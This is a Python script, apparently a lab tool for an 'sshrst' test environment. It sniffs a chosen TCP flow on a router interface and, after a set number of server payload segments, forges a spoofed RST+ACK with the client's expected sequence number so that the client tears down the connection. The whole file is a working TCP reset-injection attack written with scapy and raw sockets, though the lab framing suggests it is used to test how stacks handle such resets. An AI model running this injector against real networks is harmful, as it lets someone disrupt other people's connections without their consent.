#!/usr/bin/python3
"""On-path RST injector for the sshrst lab (runs inside a router namespace).

Usage: inject.py IFACE SERVER_IP SERVER_PORT CLIENT_IP CLIENT_PORT N

Watches IFACE for server->client TCP segments of the given flow. After the Nth
segment carrying payload it forges one RST+ACK from the server to the client
with seq = that segment's seq + payload length (the client's RCV.NXT, so the
client accepts it), a random IP ID, no DF and TTL 64, and sends it through the
router's own routing table. The real server is not touched and keeps sending.
Prints "ready" once sniffing, "injected ..." after sending, then exits.
"""
import random
import socket
import sys

from scapy.all import AsyncSniffer, IP, IPv6, TCP, raw  # noqa: E402


def main():
    iface, sip, sport, cip, cport, n = sys.argv[1:7]
    sport, cport, n = int(sport), int(cport), int(n)
    v6 = ":" in sip
    seen = [0]
    done = []

    def handle(p):
        if done:
            return
        ipl = p.getlayer(IPv6) if v6 else p.getlayer(IP)
        if ipl is None or TCP not in p:
            return
        t = p[TCP]
        if ipl.src != sip or ipl.dst != cip or t.sport != sport or t.dport != cport:
            return
        plen = len(t.payload)
        if plen == 0:
            return
        seen[0] += 1
        if seen[0] < n:
            return
        seq = (t.seq + plen) & 0xFFFFFFFF
        if v6:
            pkt = IPv6(src=sip, dst=cip, hlim=64) / TCP(sport=sport, dport=cport, flags="RA", seq=seq, ack=t.ack, window=0)
            s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
            s.sendto(raw(pkt), (cip, 0))
        else:
            pkt = IP(src=sip, dst=cip, ttl=64, id=random.randint(1, 65535), flags=0) / TCP(
                sport=sport, dport=cport, flags="RA", seq=seq, ack=t.ack, window=0)
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            s.sendto(raw(pkt), (cip, 0))
        s.close()
        done.append(seq)
        print(f"injected RST+ACK {sip}:{sport} > {cip}:{cport} seq={seq} ack={t.ack} after segment #{seen[0]}", flush=True)

    sn = AsyncSniffer(iface=iface, prn=handle, store=False,
                      filter=f"tcp and src port {sport} and dst port {cport}",
                      started_callback=lambda: print("ready", flush=True))
    sn.start()
    import time
    deadline = time.monotonic() + 30
    while not done and time.monotonic() < deadline:
        time.sleep(0.05)
    sn.stop()
    return 0 if done else 1


if __name__ == "__main__":
    sys.exit(main())
